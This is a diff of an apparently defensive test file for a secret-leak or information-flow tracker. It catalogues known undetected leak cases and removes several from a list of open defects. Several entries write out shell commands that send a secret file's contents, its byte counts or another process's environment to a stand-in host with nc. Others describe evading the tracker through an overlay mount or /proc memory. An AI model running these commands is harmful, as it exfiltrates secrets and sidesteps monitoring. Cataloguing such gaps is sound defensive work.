@@ -51,16 +51,7 @@ LIMITS = [
          "tr '\\0' '\\n' < /proc/$!/environ | grep ^X= | nc remote 9", limit=PROC),
 ]
 # Defects that are known, for whoever works on them next: no test runs these. `limit` tells what is wrong.
-LENGTHS = "where the two runs write another number of bytes into a channel, its reader's doppelganger gets as many as its original"
 OPEN = [
-    Leak("commas", "tr -cd , < secret | wc -c | nc remote 9", shows=exactly(b"3"), limit=LENGTHS),
-    Leak("packed-length", "gzip -nc secret | wc -c | nc remote 9", shows=lambda data: int(data) > 40, limit=LENGTHS),
-    Leak("filtered-length", "tr -d a-z < secret | wc -c | nc remote 9",
-         shows=exactly(b"%d" % sum(not 97 <= byte <= 122 for byte in CONTENT)), limit=LENGTHS),
-    Leak("overlay", "mkdir upper work merged lower; cp secret lower/secret; "
-         "mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work none merged; nc remote 9 < merged/secret; umount -l merged",
-         limit="a labelled file that is read through an overlay mounted above it: the overlay's inode has no mark, and the files below "
-               "are opened without notification"),
     Leak("proc-mem-early", "way proc-mem-early secret",
          limit="/proc/PID/mem that was opened before the process read: nothing tells of a later read from it"),
 ]
